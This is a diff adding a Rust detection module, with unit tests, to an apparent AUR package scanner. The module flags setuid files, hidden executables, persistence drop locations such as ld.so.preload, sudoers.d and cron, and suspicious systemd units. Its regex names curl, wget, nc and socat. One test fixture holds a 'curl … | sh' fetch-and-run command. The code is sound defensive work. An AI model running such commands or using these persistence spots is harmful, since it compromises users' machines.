@@ -0,0 +1,330 @@
+use crate::features::Feature;
+use crate::shared::models::{ArtifactEntry, PackageArtifact, PackageContext};
+use crate::shared::scoring::{Signal, SignalCategory};
+use regex::Regex;
+use std::sync::LazyLock;
+
+/// Locations where a dropped file runs automatically or changes system policy:
+/// (path prefix, signal id, points, description).
+const DROP_LOCATIONS: &[(&str, &str, u32, &str)] = &[
+    ("etc/ld.so.preload", "A-LD-PRELOAD", 85, "Package ships /etc/ld.so.preload (global library injection)"),
+    ("etc/sudoers.d/", "A-SUDOERS-DROPIN", 75, "Package ships a sudoers drop-in"),
+    ("etc/xdg/autostart/", "A-AUTOSTART-ENTRY", 40, "Package ships an XDG autostart entry"),
+    ("usr/share/libalpm/hooks/", "A-PACMAN-HOOK", 50, "Package ships a pacman hook"),
+    ("etc/pacman.d/hooks/", "A-PACMAN-HOOK", 50, "Package ships a pacman hook"),
+    ("etc/profile.d/", "A-PROFILE-SCRIPT", 35, "Package ships a login shell profile script"),
+    ("etc/cron.d/", "A-CRON-ENTRY", 45, "Package ships a cron job"),
+    ("etc/cron.hourly/", "A-CRON-ENTRY", 45, "Package ships a cron job"),
+    ("etc/cron.daily/", "A-CRON-ENTRY", 45, "Package ships a cron job"),
+    ("var/spool/cron/", "A-CRON-ENTRY", 45, "Package ships a cron job"),
+    ("home/", "A-HOME-FILE", 50, "Package ships files into a user home directory"),
+    ("root/", "A-HOME-FILE", 50, "Package ships files into a user home directory"),
+];
+
+/// Exec lines in systemd units that run from writable locations or fetch code.
+static UNIT_EXEC_RE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?m)^\s*Exec\w*\s*=.*(/tmp/|/dev/shm/|/var/tmp/|\bcurl\b|\bwget\b|\b(ba)?sh\s+-c\b|\bnc\b|\bncat\b|\bsocat\b|base64)").unwrap()
+});
+
+pub struct ArtifactAnalysis;
+
+impl Feature for ArtifactAnalysis {
+    fn analyze(&self, ctx: &PackageContext) -> Vec<Signal> {
+        let Some(ref artifact) = ctx.artifact else {
+            return Vec::new();
+        };
+
+        let mut signals = Vec::new();
+        check_setuid(artifact, &mut signals);
+        check_world_writable(artifact, &mut signals);
+        check_hidden_executables(artifact, &mut signals);
+        check_drop_locations(artifact, &mut signals);
+        check_systemd_units(artifact, &mut signals);
+        signals
+    }
+}
+
+fn is_regular(entry: &ArtifactEntry) -> bool {
+    entry.mode.starts_with('-')
+}
+
+fn is_executable(entry: &ArtifactEntry) -> bool {
+    is_regular(entry) && entry.mode.chars().skip(1).any(|c| matches!(c, 'x' | 's' | 't'))
+}
+
+fn signal(id: &str, points: u32, description: String, path: &str) -> Signal {
+    Signal {
+        id: id.to_string(),
+        category: SignalCategory::Pkgbuild,
+        points,
+        description,
+        is_override_gate: false,
+        matched_line: Some(format!("/{path}")),
+        location: None,
+        emitted_by: String::new(),
+    }
+}
+
+/// Flag setuid/setgid regular files.
+fn check_setuid(artifact: &PackageArtifact, signals: &mut Vec<Signal>) {
+    let flagged: Vec<&ArtifactEntry> = artifact
+        .entries
+        .iter()
+        .filter(|e| {
+            let mode = e.mode.as_bytes();
+            is_regular(e) && mode.len() >= 7 && (matches!(mode[3], b's' | b'S') || matches!(mode[6], b's' | b'S'))
+        })
+        .collect();
+    if let Some(first) = flagged.first() {
+        signals.push(signal(
+            "A-SETUID-BINARY",
+            60,
+            format!("Package ships {} setuid/setgid file(s) (e.g. /{})", flagged.len(), first.path),
+            &first.path,
+        ));
+    }
+}
+
+/// Flag world-writable files and non-sticky world-writable directories.
+fn check_world_writable(artifact: &PackageArtifact, signals: &mut Vec<Signal>) {
+    let found = artifact.entries.iter().find(|e| {
+        let mode = e.mode.as_bytes();
+        mode.len() >= 10
+            && mode[8] == b'w'
+            && !matches!(mode[0], b'l')
+            && !matches!(mode[9], b't' | b'T')
+    });
+    if let Some(entry) = found {
+        signals.push(signal(
+            "A-WORLD-WRITABLE",
+            30,
+            format!("World-writable path /{} ({})", entry.path, entry.mode),
+            &entry.path,
+        ));
+    }
+}
+
+/// Flag executables that are hidden (dot-prefixed) or live in temp directories.
+fn check_hidden_executables(artifact: &PackageArtifact, signals: &mut Vec<Signal>) {
+    let found = artifact.entries.iter().find(|e| {
+        if !is_executable(e) || e.path.starts_with('.') && !e.path.contains('/') {
+            return false; // .INSTALL, .PKGINFO etc. are package metadata
+        }
+        let basename = e.path.rsplit('/').next().unwrap_or(&e.path);
+        basename.starts_with('.')
+            || e.path.starts_with("tmp/")
+            || e.path.starts_with("var/tmp/")
+            || e.path.starts_with("dev/shm/")
+    });
+    if let Some(entry) = found {
+        signals.push(signal(
+            "A-HIDDEN-EXECUTABLE",
+            45,
+            format!("Hidden or temp-dir executable /{}", entry.path),
+            &entry.path,
+        ));
+    }
+}
+
+/// Flag files dropped into autostart, hook, cron and policy locations.
+fn check_drop_locations(artifact: &PackageArtifact, signals: &mut Vec<Signal>) {
+    for entry in artifact.entries.iter().filter(|e| is_regular(e)) {
+        for &(prefix, id, points, description) in DROP_LOCATIONS {
+            if entry.path.starts_with(prefix) && !signals.iter().any(|s| s.id == id) {
+                signals.push(signal(id, points, format!("{description}: /{}", entry.path), &entry.path));
+            }
+        }
+    }
+}
+
+/// Flag shipped systemd units that execute from writable paths or fetch/decode code.
+fn check_systemd_units(artifact: &PackageArtifact, signals: &mut Vec<Signal>) {
+    for (path, content) in &artifact.file_contents {
+        if !path.contains("/systemd/") {
+            continue;
+        }
+        if let Some(line) = content.lines().find(|l| UNIT_EXEC_RE.is_match(l)) {
+            signals.push(Signal {
+                id: "A-SYSTEMD-UNIT-SUSPICIOUS".to_string(),
+                category: SignalCategory::Pkgbuild,
+                points: 60,
+                description: format!("Shipped systemd unit /{path} executes from a writable path or fetches code"),
+                is_override_gate: false,
+                matched_line: Some(line.trim().to_string()),
+                location: None,
+                emitted_by: String::new(),
+            });
+            return;
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn entry(mode: &str, path: &str) -> ArtifactEntry {
+        ArtifactEntry {
+            path: path.to_string(),
+            mode: mode.to_string(),
+        }
+    }
+
+    fn analyze(entries: Vec<ArtifactEntry>, files: Vec<(&str, &str)>) -> Vec<String> {
+        let ctx = PackageContext {
+            name: "test-pkg".into(),
+            metadata: None,
+            pkgbuild_content: None,
+            install_script_content: None,
+            prior_pkgbuild_content: None,
+            git_log: vec![],
+            maintainer_packages: vec![],
+            github_stars: None,
+            github_not_found: false,
+            aur_comments: vec![],
+            artifact: Some(PackageArtifact {
+                entries,
+                file_contents: files.into_iter().map(|(p, c)| (p.to_string(), c.to_string())).collect(),
+            }),
+            github_releases: None,
+            repo_files: Vec::new(),
+            trusted_domains: Vec::new(),
+            protected_names: Vec::new(),
+            sibling_commits: Vec::new(),
+            maintainer_account: None,
+            upstream_build_files: Vec::new(),
+            history_rewrite: None,
+        };
+        ArtifactAnalysis.analyze(&ctx).iter().map(|s| s.id.clone()).collect()
+    }
+
+    fn has(ids: &[String], id: &str) -> bool {
+        ids.iter().any(|s| s == id)
+    }
+
+    #[test]
+    fn setuid_binary() {
+        let ids = analyze(vec![entry("-rwsr-xr-x", "usr/bin/helper")], vec![]);
+        assert!(has(&ids, "A-SETUID-BINARY"));
+    }
+
+    #[test]
+    fn setgid_binary() {
+        let ids = analyze(vec![entry("-rwxr-sr-x", "usr/bin/helper")], vec![]);
+        assert!(has(&ids, "A-SETUID-BINARY"));
+    }
+
+    #[test]
+    fn world_writable_file() {
+        let ids = analyze(vec![entry("-rw-rw-rw-", "etc/tool.conf")], vec![]);
+        assert!(has(&ids, "A-WORLD-WRITABLE"));
+    }
+
+    #[test]
+    fn sticky_dir_not_world_writable() {
+        let ids = analyze(vec![entry("drwxrwxrwt", "var/lib/tool/spool")], vec![]);
+        assert!(!has(&ids, "A-WORLD-WRITABLE"));
+    }
+
+    #[test]
+    fn hidden_executable() {
+        let ids = analyze(vec![entry("-rwxr-xr-x", "usr/lib/tool/.updater")], vec![]);
+        assert!(has(&ids, "A-HIDDEN-EXECUTABLE"));
+    }
+
+    #[test]
+    fn package_metadata_not_hidden_executable() {
+        let ids = analyze(vec![entry("-rwxr-xr-x", ".INSTALL")], vec![]);
+        assert!(!has(&ids, "A-HIDDEN-EXECUTABLE"));
+    }
+
+    #[test]
+    fn autostart_entry() {
+        let ids = analyze(vec![entry("-rw-r--r--", "etc/xdg/autostart/tool.desktop")], vec![]);
+        assert!(has(&ids, "A-AUTOSTART-ENTRY"));
+    }
+
+    #[test]
+    fn pacman_hook() {
+        let ids = analyze(vec![entry("-rw-r--r--", "usr/share/libalpm/hooks/zz-tool.hook")], vec![]);
+        assert!(has(&ids, "A-PACMAN-HOOK"));
+    }
+
+    #[test]
+    fn ld_preload() {
+        let ids = analyze(vec![entry("-rw-r--r--", "etc/ld.so.preload")], vec![]);
+        assert!(has(&ids, "A-LD-PRELOAD"));
+    }
+
+    #[test]
+    fn sudoers_dropin() {
+        let ids = analyze(vec![entry("-r--r-----", "etc/sudoers.d/tool")], vec![]);
+        assert!(has(&ids, "A-SUDOERS-DROPIN"));
+    }
+
+    #[test]
+    fn home_file() {
+        let ids = analyze(vec![entry("-rw-r--r--", "root/.bashrc")], vec![]);
+        assert!(has(&ids, "A-HOME-FILE"));
+    }
+
+    #[test]
+    fn suspicious_systemd_unit() {
+        let unit = "[Service]\nExecStart=/bin/sh -c 'curl -s http://x | sh'\n";
+        let ids = analyze(
+            vec![entry("-rw-r--r--", "usr/lib/systemd/system/tool.service")],
+            vec![("usr/lib/systemd/system/tool.service", unit)],
+        );
+        assert!(has(&ids, "A-SYSTEMD-UNIT-SUSPICIOUS"));
+    }
+
+    #[test]
+    fn normal_systemd_unit() {
+        let unit = "[Service]\nExecStart=/usr/bin/toold --foreground\n";
+        let ids = analyze(
+            vec![entry("-rw-r--r--", "usr/lib/systemd/system/tool.service")],
+            vec![("usr/lib/systemd/system/tool.service", unit)],
+        );
+        assert!(ids.is_empty(), "got: {ids:?}");
+    }
+
+    #[test]
+    fn clean_package_no_signals() {
+        let ids = analyze(
+            vec![
+                entry("drwxr-xr-x", "usr/bin"),
+                entry("-rwxr-xr-x", "usr/bin/tool"),
+                entry("-rw-r--r--", "usr/share/licenses/tool/LICENSE"),
+                entry("lrwxrwxrwx", "usr/bin/t"),
+            ],
+            vec![],
+        );
+        assert!(ids.is_empty(), "got: {ids:?}");
+    }
+
+    #[test]
+    fn no_artifact_no_signals() {
+        let ctx = PackageContext {
+            name: "test-pkg".into(),
+            metadata: None,
+            pkgbuild_content: None,
+            install_script_content: None,
+            prior_pkgbuild_content: None,
+            git_log: vec![],
+            maintainer_packages: vec![],
+            github_stars: None,
+            github_not_found: false,
+            aur_comments: vec![],
+            artifact: None,
+            github_releases: None,
+            repo_files: Vec::new(),
+            trusted_domains: Vec::new(),
+            protected_names: Vec::new(),
+            sibling_commits: Vec::new(),
+            maintainer_account: None,
+            upstream_build_files: Vec::new(),
+            history_rewrite: None,
+        };
+        assert!(ArtifactAnalysis.analyze(&ctx).is_empty());
+    }
+}